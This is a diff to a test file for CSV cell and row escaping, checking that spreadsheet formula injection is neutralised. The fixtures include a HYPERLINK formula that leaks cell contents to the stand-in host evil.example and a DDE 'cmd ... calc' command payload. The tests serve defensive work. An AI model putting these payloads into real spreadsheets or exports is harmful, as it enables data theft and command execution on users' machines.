@@ -8,7 +8,7 @@ describe('csvCell', () => {
     ['=1+1', `"'=1+1"`],
     ['=HYPERLINK("http://evil.example?"&A1,"Klikk")', `"'=HYPERLINK(""http://evil.example?""&A1,""Klikk"")"`],
     ['+47 22 00 00 00', `"'+47 22 00 00 00"`],
-    ['-2+3+cmd|\' /C calc\'!A0', `"'-2+3+cmd|' /C calc'!A0"`],
+    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
     ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
     ['\t=1+1', `"'\t=1+1"`],
     ['\r=1+1', `"'\r=1+1"`],
@@ -52,6 +52,6 @@ describe('csvRow', () => {
     const hostile = ['x",=1+1,"y', 'a\r\n=2+2', '"', ';;', '-', '@'];
     // Read back by a CSV parser (the one catalogue uploads use), as a spreadsheet would.
     const rows = Papa.parse<string[]>(csvRow(hostile) + csvRow(['next']), { delimiter: ',', newline: '\r\n', skipEmptyLines: true }).data;
-    expect(rows).toEqual([["x\",=1+1,\"y", 'a\r\n=2+2', '"', ';;', "'-", "'@"], ['next']]);
+    expect(rows).toEqual([['x",=1+1,"y', 'a\r\n=2+2', '"', ';;', "'-", "'@"], ['next']]);
   });
 });
